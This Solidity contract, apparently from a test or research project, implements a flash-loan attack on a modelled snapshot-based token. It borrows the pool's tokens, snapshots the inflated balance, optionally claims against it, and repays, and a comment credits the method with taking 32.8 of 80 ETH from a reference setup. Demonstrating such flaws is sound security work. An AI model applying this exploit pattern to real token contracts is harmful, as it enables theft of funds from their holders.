// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import { IModelToken } from "../interfaces/IModelToken.sol";
import { IFlashBorrower, TokenFlashPool } from "./TokenFlashPool.sol";

/// @notice The attack that took 32.8 of 80 ETH from the reference: borrow, snapshot, give back, claim.
contract TokenFlashAttacker is IFlashBorrower {
    IModelToken public immutable token;
    TokenFlashPool public immutable pool;
    /// @notice Whether claiming inside the loan is tried too.
    bool public claimsInside;

    constructor(IModelToken token_, TokenFlashPool pool_) {
        token = token_;
        pool = pool_;
    }

    receive() external payable { }

    function attack(bool claimsInside_) external {
        claimsInside = claimsInside_;
        pool.flash(token.balanceOf(address(pool)));
    }

    function claim(uint256 snapshotId) external {
        token.claim(snapshotId);
    }

    function onFlash(uint256 amount) external {
        uint256 snapshotId = token.snapshot();
        if (claimsInside) token.claim(snapshotId);
        token.transfer(address(pool), amount);
    }
}
